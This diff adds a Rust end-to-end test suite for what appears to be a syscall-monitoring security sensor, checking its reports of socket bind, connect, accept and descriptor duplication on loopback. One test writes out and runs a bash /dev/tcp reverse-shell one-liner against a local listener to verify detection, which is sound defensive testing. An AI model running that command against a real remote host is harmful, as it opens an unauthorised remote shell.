@@ -1,0 +1,246 @@
+//! Network syscalls and descriptor redirection, end to end, on loopback only.
+
+use std::{
+    io::{Read, Write},
+    net::{TcpListener, TcpStream},
+    os::unix::net::UnixListener,
+    process::{Command, Stdio},
+    time::Duration,
+};
+
+use sensor_e2e::{Agent, argv, event_of, java_reenact, marker, num};
+use serde_json::Value;
+
+fn pid() -> u64 {
+    u64::from(std::process::id())
+}
+
+fn socket(ev: &Value, kind: &str) -> Value {
+    ev[kind]["socket"].clone()
+}
+
+#[test]
+fn loopback_connect_accept_bind_listen_with_addresses() {
+    let mut agent = Agent::start(&[]);
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = u64::from(listener.local_addr().unwrap().port());
+    let client = TcpStream::connect(("127.0.0.1", port as u16)).unwrap();
+    let client_port = u64::from(client.local_addr().unwrap().port());
+    let (_server, _) = listener.accept().unwrap();
+
+    let bind = agent.wait_for("bind of the listener", |l| {
+        event_of(l, "bind").is_some_and(|e| {
+            num(&e["pid"]) == pid() && e["bind"]["socket"]["localAddr"] == "127.0.0.1"
+        })
+    });
+    assert_eq!(socket(&bind["event"], "bind")["family"], "inet");
+    let listen = agent.wait_for("listen", |l| {
+        event_of(l, "listen").is_some_and(|e| {
+            num(&e["pid"]) == pid() && num(&e["listen"]["socket"]["localPort"]) == port
+        })
+    });
+    assert!(num(&listen["event"]["listen"]["backlog"]) > 0);
+    assert_eq!(socket(&listen["event"], "listen")["type"], "stream");
+
+    let connect = agent.wait_for("connect to the listener", |l| {
+        event_of(l, "connect").is_some_and(|e| {
+            num(&e["pid"]) == pid() && num(&e["connect"]["socket"]["remotePort"]) == port
+        })
+    });
+    let s = socket(&connect["event"], "connect");
+    assert_eq!(s["remoteAddr"], "127.0.0.1");
+    assert_eq!(s["family"], "inet");
+    assert_eq!(num(&s["localPort"]), client_port);
+    assert_eq!(
+        connect["event"]["connect"]["error"],
+        Value::Null,
+        "a success has no error"
+    );
+
+    let accept = agent.wait_for("accept of the client", |l| {
+        event_of(l, "accept").is_some_and(|e| {
+            num(&e["pid"]) == pid() && num(&e["accept"]["socket"]["remotePort"]) == client_port
+        })
+    });
+    let s = socket(&accept["event"], "accept");
+    assert_eq!(num(&s["localPort"]), port);
+    assert_eq!(s["localAddr"], "127.0.0.1");
+    assert_eq!(s["remoteAddr"], "127.0.0.1");
+    agent.stop();
+}
+
+#[test]
+fn refused_ipv6_and_unix_connects() {
+    let mut agent = Agent::start(&[]);
+    // A port nobody listens on: take one, then free it.
+    let port = TcpListener::bind("127.0.0.1:0")
+        .unwrap()
+        .local_addr()
+        .unwrap()
+        .port();
+    assert!(TcpStream::connect(("127.0.0.1", port)).is_err());
+    let v6 = TcpListener::bind("[::1]:0").unwrap();
+    let v6_port = v6.local_addr().unwrap().port();
+    let _c = TcpStream::connect(("::1", v6_port)).unwrap();
+    let dir = std::env::temp_dir().join(marker("unix"));
+    std::fs::create_dir_all(&dir).unwrap();
+    let path = dir.join("s.sock");
+    let _ul = UnixListener::bind(&path).unwrap();
+    let _uc = std::os::unix::net::UnixStream::connect(&path).unwrap();
+
+    let refused = agent.wait_for("the refused connect", |l| {
+        event_of(l, "connect")
+            .is_some_and(|e| num(&e["connect"]["socket"]["remotePort"]) == u64::from(port))
+    });
+    assert_eq!(refused["event"]["connect"]["error"], "ECONNREFUSED");
+    assert_eq!(
+        refused["event"]["connect"]["result"],
+        -(libc::ECONNREFUSED as i64)
+    );
+
+    let v6 = agent.wait_for("the IPv6 connect", |l| {
+        event_of(l, "connect")
+            .is_some_and(|e| num(&e["connect"]["socket"]["remotePort"]) == u64::from(v6_port))
+    });
+    assert_eq!(socket(&v6["event"], "connect")["remoteAddr"], "::1");
+    assert_eq!(socket(&v6["event"], "connect")["family"], "inet6");
+
+    let p = path.to_str().unwrap().to_owned();
+    let unix = agent.wait_for("the unix connect", |l| {
+        event_of(l, "connect").is_some_and(|e| e["connect"]["unixPath"] == p.as_str())
+    });
+    assert_eq!(socket(&unix["event"], "connect")["family"], "unix");
+    let bind = agent.wait_for("the unix bind", |l| {
+        event_of(l, "bind").is_some_and(|e| e["bind"]["unixPath"] == p.as_str())
+    });
+    assert_eq!(num(&bind["event"]["pid"]), pid());
+    let _ = std::fs::remove_dir_all(dir);
+    agent.stop();
+}
+
+/// `bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1`: the shell's descriptors 0-2 are the socket
+/// at exec, and the dup2 calls that put them there carry the socket's addresses.
+#[test]
+fn bash_dev_tcp_reverse_shell_has_a_socket_on_stdio() {
+    let mut agent = Agent::start(&[]);
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let tag = marker("revsh");
+    let mut shell = Command::new("/bin/bash")
+        .args([
+            "-c",
+            &format!("bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1 # {tag}"),
+        ])
+        .stdin(Stdio::null())
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .spawn()
+        .unwrap();
+    let (mut conn, _) = listener.accept().unwrap();
+    conn.set_read_timeout(Some(Duration::from_secs(10)))
+        .unwrap();
+    conn.write_all(b"echo reverse-$((6*7)); exit\n").unwrap();
+    let mut got = String::new();
+    let _ = conn.read_to_string(&mut got);
+    assert!(
+        got.contains("reverse-42"),
+        "the shell answered over the socket: {got:?}"
+    );
+    let _ = shell.wait();
+
+    let exec = agent.wait_for("the exec of the interactive shell", |l| {
+        event_of(l, "exec").is_some_and(|e| argv(e) == ["bash", "-i"])
+            && num(&l["event"]["exec"]["ppid"]) == u64::from(shell.id())
+    });
+    let stdio = exec["event"]["exec"]["stdio"].as_array().unwrap();
+    for (fd, info) in stdio.iter().enumerate() {
+        assert_eq!(info["kind"], "FD_KIND_SOCKET", "fd {fd}: {info}");
+        assert_eq!(
+            num(&info["socket"]["remotePort"]),
+            u64::from(port),
+            "fd {fd}"
+        );
+        assert_eq!(info["socket"]["remoteAddr"], "127.0.0.1");
+    }
+    let shell_child = num(&exec["event"]["pid"]);
+    let dups = agent.collect(Duration::from_millis(200), |l| {
+        event_of(l, "dup").is_some_and(|e| num(&e["pid"]) == shell_child)
+    });
+    assert!(dups.len() >= 2, "dup2 onto 1 and 2 (and 0): {dups:?}");
+    for dup in &dups {
+        let file = &dup["event"]["dup"]["file"];
+        assert_eq!(file["kind"], "FD_KIND_SOCKET", "{dup}");
+        assert_eq!(num(&file["socket"]["remotePort"]), u64::from(port));
+    }
+    agent.stop();
+}
+
+/// A JVM child started by Runtime.exec gets pipes on 0-2, never sockets, and its parent is
+/// the JVM process even though a worker thread forked it.
+#[test]
+fn jvm_runtime_exec_child_has_pipes_not_sockets() {
+    let mut agent = Agent::start(&[]);
+    let tag = marker("jvm");
+    let out = java_reenact(&["exec", "/bin/sh", "-c", &format!("echo {tag}")])
+        .output()
+        .unwrap();
+    assert!(
+        String::from_utf8_lossy(&out.stdout).contains(&tag),
+        "{out:?}"
+    );
+
+    let exec = agent.wait_for("the shell the JVM started", |l| {
+        event_of(l, "exec").is_some_and(|e| {
+            let argv = argv(e);
+            argv.first().is_some_and(|a| a == "/bin/sh")
+                && argv.last().is_some_and(|a| a.contains(&tag))
+        })
+    });
+    let ev = &exec["event"]["exec"];
+    for (fd, info) in ev["stdio"].as_array().unwrap().iter().enumerate() {
+        assert_eq!(info["kind"], "FD_KIND_PIPE", "fd {fd}: {info}");
+    }
+    assert_eq!(
+        ev["parentThreadComm"], "http-bio-127.0.",
+        "the forking thread's name"
+    );
+    let jvm = num(&ev["ppid"]);
+    let jvm_exec = agent.wait_for("the JVM itself", |l| {
+        event_of(l, "exec").is_some_and(|e| num(&e["pid"]) == jvm)
+    });
+    assert!(
+        jvm_exec["event"]["exec"]["exe"]
+            .as_str()
+            .unwrap()
+            .ends_with("/java"),
+        "the parent is the JVM process: {jvm_exec}"
+    );
+    // The JVM's own plumbing dups pipes onto 0-2 in the child: never a socket.
+    let child = num(&exec["event"]["pid"]);
+    let dups = agent.collect(Duration::from_millis(200), |l| {
+        event_of(l, "dup").is_some_and(|e| num(&e["pid"]) == child)
+    });
+    for dup in dups {
+        assert_ne!(
+            dup["event"]["dup"]["file"]["kind"], "FD_KIND_SOCKET",
+            "{dup}"
+        );
+    }
+    agent.stop();
+}
+
+#[test]
+fn socket_creation_reports_family_and_type() {
+    let mut agent = Agent::start(&[]);
+    let udp = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
+    let fd = std::os::fd::AsRawFd::as_raw_fd(&udp);
+    let line = agent.wait_for("the UDP socket", |l| {
+        event_of(l, "socket").is_some_and(|e| {
+            num(&e["pid"]) == pid()
+                && num(&e["socket"]["fd"]) == fd as u64
+                && e["socket"]["type"] == "dgram"
+        })
+    });
+    assert_eq!(line["event"]["socket"]["family"], "inet");
+    agent.stop();
+}
